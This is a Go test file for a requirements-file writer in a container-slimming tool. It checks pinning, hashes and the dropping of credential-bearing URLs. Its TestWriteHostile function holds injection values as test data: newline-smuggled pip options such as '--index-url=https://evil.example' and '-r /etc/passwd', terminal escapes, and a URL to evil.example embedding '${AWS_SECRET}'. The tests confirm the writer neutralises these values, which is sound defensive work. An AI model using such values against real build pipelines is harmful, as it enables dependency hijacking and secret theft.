package requirements_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/slimify/slimify/internal/python/requirements"
)

const site = "usr/local/lib/python3.11/site-packages"

var (
	a = strings.Repeat("a", 64)
	b = strings.Repeat("b", 64)
)

func indexed(name, version string, hashes ...string) requirements.Installed {
	d := requirements.Installed{Name: name, Key: strings.ToLower(name), Version: version, Site: site, Hashes: hashes}
	if len(hashes) > 0 {
		d.From = []string{"/app/uv.lock"}
	}
	return d
}

func direct(name, doc string) requirements.Installed {
	return requirements.Installed{Name: name, Key: name, Version: "1.0", Site: site, DirectURL: []byte(doc)}
}

func TestWrite(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name           string
		list           []requirements.Installed
		pinned, hashed int
		want           string
	}{
		{"none", nil, 0, 0, "# The distributions of app:1, written by slimify.\n#\n# There are none.\n"},
		{"all have hashes", []requirements.Installed{indexed("Flask", "3.0.3", a, b), indexed("click", "8.1.7", b)}, 2, 2, `# The distributions of app:1, written by slimify.
#
#   pip install --no-deps --require-hashes -r THIS_FILE
click==8.1.7 \
    --hash=sha256:B
    # from /app/uv.lock
Flask==3.0.3 \
    --hash=sha256:A \
    --hash=sha256:B
    # from /app/uv.lock
`},
		{"some have", []requirements.Installed{indexed("Flask", "3.0.3"), indexed("click", "8.1.7", b)}, 2, 1, `# The distributions of app:1, written by slimify.
#
#   pip install --no-deps -r THIS_FILE
#
# 1 of 2 have no hash in the image, and pip accepts hashes for all or for none:
# known hashes are comments.
click==8.1.7
    # --hash=sha256:B
    # from /app/uv.lock
Flask==3.0.3
    # no hash
`},
		{"tools", []requirements.Installed{indexed("pip", "24.0"), indexed("setuptools", "65.5.1", a), indexed("click", "8.1.7", b)}, 2, 2, `# The distributions of app:1, written by slimify.
#
#   pip install --no-deps --require-hashes -r THIS_FILE
click==8.1.7 \
    --hash=sha256:B
    # from /app/uv.lock
setuptools==65.5.1 \
    --hash=sha256:A
    # from /app/uv.lock
#
# Left out:
#   pip 24.0: a tool, which pip freeze leaves out too
`},
		{"two environments", []requirements.Installed{
			{Name: "click", Key: "click", Version: "7.0", Site: "opt/tool/site-packages"},
			{Name: "rich", Key: "rich", Version: "13.0", Site: "opt/tool/site-packages"},
			{Name: "Rich", Key: "rich", Version: "13.0", Site: site},
			indexed("click", "8.1.7"), indexed("Flask", "3.0.3"), {Name: "rich", Key: "rich", Version: "13.0", Site: "opt/other/site-packages"},
		}, 3, 0, `# The distributions of app:1, written by slimify.
#
#   pip install --no-deps -r THIS_FILE
#
# None has a hash in the image: versions are pinned, archives are not.
click==8.1.7
Flask==3.0.3
Rich==13.0
#
# Left out:
#   click==7.0: another version is listed above; this one is in /opt/tool/site-packages
`},
		{"from elsewhere", []requirements.Installed{
			direct("archive", `{"url": "https://me:secret@x.example/a-1.0.tar.gz#egg=a", "archive_info": {"hash": "sha256=A", "hashes": {"sha256": "A"}}}`),
			direct("signed", `{"url": "https://x.example/b-1.0.tar.gz?signature=secret", "archive_info": {}}`),
			direct("edited", `{"url": "file:///src/edited", "dir_info": {"editable": true}}`),
			direct("folder", `{"url": "file:///src/folder", "dir_info": {}}`),
			direct("git", `{"url": "https://${TOKEN}@git.example/a/b.git", "vcs_info": {"vcs": "git", "requested_revision": "main", "commit_id": "0a1b2c"}, "subdirectory": "py"}`),
			direct("ssh", `{"url": "ssh://git@git.example/a/b.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}}`),
			direct("wheel", `{"url": "file:///wheels/wheel-1.0-py3-none-any.whl", "archive_info": {"hash": "md5=0"}}`),
			{Name: "linked", Key: "linked", Version: "2.0", Site: "srv/linked", Local: true},
		}, 4, 1, `# The distributions of app:1, written by slimify.
#
#   pip install --no-deps -r THIS_FILE
#
# 3 of 4 have no hash in the image, and pip accepts hashes for all or for none:
# known hashes are comments.
archive @ https://x.example/a-1.0.tar.gz
    # --hash=sha256:A
    # from /usr/local/lib/python3.11/site-packages/…/direct_url.json
git @ git+https://git.example/a/b.git@0a1b2c#subdirectory=py
    # a commit
ssh @ git+ssh://git@git.example/a/b.git@0a1b2c
    # a commit
wheel @ file:///wheels/wheel-1.0-py3-none-any.whl
    # no hash
#
# Left out:
#   edited 1.0: it was installed from file:///src/edited, a directory
#   folder 1.0: it was installed from file:///src/folder, a directory
#   signed 1.0: its direct_url.json cannot be used: its URL has a query, which may be a token or a signature
#   linked 2.0: its sources are in /srv/linked
`},
	} {
		t.Run(c.name, func(t *testing.T) {
			for i := range c.list {
				c.list[i].DirectURL = []byte(fill(string(c.list[i].DirectURL)))
				if len(c.list[i].DirectURL) == 0 {
					c.list[i].DirectURL = nil
				}
			}
			got := requirements.Write("app:1", c.list)
			if diff := cmp.Diff(fill(c.want), string(got.Content)); diff != "" {
				t.Errorf("-want +got:\n%s", diff)
			}
			if got.Pinned != c.pinned || got.Hashed != c.hashed {
				t.Errorf("%d of %d have hashes, want %d of %d", got.Hashed, got.Pinned, c.hashed, c.pinned)
			}
		})
	}
}

// fill replaces A and B in a text with digests.
func fill(s string) string {
	return strings.NewReplacer("sha256:A", "sha256:"+a, "sha256:B", "sha256:"+b, "sha256=A", "sha256="+a, `"A"`, `"`+a+`"`).Replace(s)
}

// Whatever an image calls a distribution, each line is a comment or a plain
// requirement.
func TestWriteHostile(t *testing.T) {
	t.Parallel()
	for _, d := range []requirements.Installed{
		indexed("--index-url", "1"), indexed("x\n--index-url=https://evil.example", "1"), indexed("x", "1 --index-url=https://evil.example"), indexed("x", "1\n-e ."),
		indexed("x;y", "1"), indexed("-r", "1"), indexed("x", ""), indexed("\x1b[2J", "1"), indexed("x ", "1"), indexed("", "1"), indexed("x", "${HOME}"),
		direct("x", `{"url": "https://evil.example/${AWS_SECRET}/x.whl", "archive_info": {}}`),
		direct("x", `{"url": "https://evil.example/a b -r /etc/passwd", "archive_info": {}}`),
		direct("x", `{"url": "https://evil.example/x\n-r /etc/passwd", "archive_info": {}}`),
		direct("x", `{"url": "https://evil.example/x.git", "vcs_info": {"vcs": "git", "commit_id": "a -r x"}}`),
		direct("x", `{"url": "https://evil.example/x.git", "vcs_info": {"vcs": "sh", "commit_id": "a"}}`),
		direct("x", `{"url": "https://evil.example/x.git", "vcs_info": {"vcs": "git", "commit_id": "a"}, "subdirectory": "a\\ \n-r x"}`),
		direct("x", `{"url": "/etc/passwd", "archive_info": {}}`), direct("x", "[]"), direct("x", ""),
		{Name: "x", Key: "x", Version: "1", Site: "a\n-r /etc/passwd", Local: true},
		{Name: "x", Key: "x", Version: "1", Site: site, DirectURL: []byte(`{"url": "file:///a\u2028b\n", "dir_info": {}}`)},
	} {
		content := string(requirements.Write("app\n-r x", []requirements.Installed{d}).Content)
		for line := range strings.Lines(content) {
			switch text := strings.TrimSpace(line); {
			case strings.HasPrefix(text, "#"), text == "x @ https://evil.example/a%20b%20-r%20/etc/passwd", text == "x @ git+https://evil.example/x.git@a#subdirectory=a%5C%20%0A-r%20x":
			default:
				t.Errorf("%+v gives the line %q", d, line)
			}
		}
		if strings.ContainsRune(content, 0x1b) {
			t.Errorf("%q", content)
		}
	}
	twice := []requirements.Installed{indexed("x", "1"), indexed("y", "1"), {Name: "x", Key: "x", Version: "2", Site: "a\nb"}}
	if content := string(requirements.Write("app", twice).Content); strings.Contains(content, "\nb") {
		t.Errorf("a site's name broke a line:\n%s", content)
	}
}
